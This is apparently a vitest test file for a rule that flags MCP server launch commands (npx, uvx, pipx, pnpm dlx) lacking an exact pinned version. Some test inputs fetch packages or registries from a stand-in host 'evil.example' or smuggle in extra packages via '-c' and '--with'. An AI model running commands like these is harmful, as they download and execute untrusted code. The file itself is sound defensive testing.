import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runnerProblem } from "../../src/mcp/rules/package-runner.ts";

describe("package runners match with an exact version alone", () => {
  it.each([
    "npx -y docs-mcp@1.2.3",
    "npx @scope/docs-mcp@1.2.3-beta.1 --flag x",
    "npx -p a@1.0.0 --package=b@2.0.0 tool",
    "npm exec -- docs@1.0.0",
    "uvx docs==1.2",
    "uvx --from docs@1.2.3 tool",
    "uv tool run docs==1.0",
    "docs-mcp whatever@latest",
    "npx-cli.js docs@1.2.3",
    "npx20 docs@1.2.3",
    "env LEVEL=1 npx docs@1.2.3",
    "corepack pnpm dlx docs@1.2.3",
    "node --no-warnings /usr/lib/npm/npx-cli.js docs@1.2.3",
    "python3 -m pipx run docs==1.2",
    "node server.js docs@latest",
    "env docs-mcp docs@latest",
    "python3 -m docs.server latest",
  ])("%s", (line) => {
    const [program = "", ...args] = line.split(" ");
    expect(runnerProblem(`/usr/bin/${program}`, args)).toBeNull();
  });

  it.each([
    ["npx docs-mcp", "has none"],
    ["npx -y docs-mcp@latest", "has none"],
    ["npx docs-mcp@^1.2.3", "has none"],
    ["npx docs@npm:evil@1.2.3", "has none"],
    ["npx https://evil.example/x.tgz", "has none"],
    ["npx --registry=https://evil.example docs@1.2.3", "cannot be judged"],
    ["npx -c evil docs@1.2.3", "cannot be judged"],
    ["npx -p evil tool@1.0.0", "has none"],
    ["npx", "has none"],
    ["npm run docs", "what its directory says"],
    ["uvx docs", "has none"],
    ["uvx --with evil docs==1.0", "has none"],
    ["uvx docs==1.*", "has none"],
    ["pipx run docs", "has none"],
    ["npx-cli.js docs", "has none"],
    ["npx.cmd docs@latest", "has none"],
    ["npx20 docs", "has none"],
    ["env npx docs", "has none"],
    ["env LEVEL=1 nohup npx docs@latest", "has none"],
    ["env -u HOME npx docs", "has none"],
    ["env -S npx@docs", "cannot be judged"],
    ["corepack pnpm dlx docs", "has none"],
    ["node --no-warnings /usr/lib/npm/npx-cli.js docs", "has none"],
    ["python3 -m pipx run docs", "has none"],
  ])("%s: %s", (line, says) => {
    const [program = "", ...args] = line.split(" ");
    expect(runnerProblem(`/usr/bin/${program}`, args)).toContain(says);
  });

  it("under another name, by the file that a link leads to", () => {
    const folder = mkdtempSync(join(tmpdir(), "runner-"));
    try {
      const link = join(folder, "docs-mcp");
      writeFileSync(join(folder, "npx-cli.js"), "");
      symlinkSync("npx-cli.js", link);
      expect(runnerProblem(link, ["docs"])).toContain("has none");
      expect(runnerProblem(link, ["docs@1.2.3"])).toBeNull();
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});
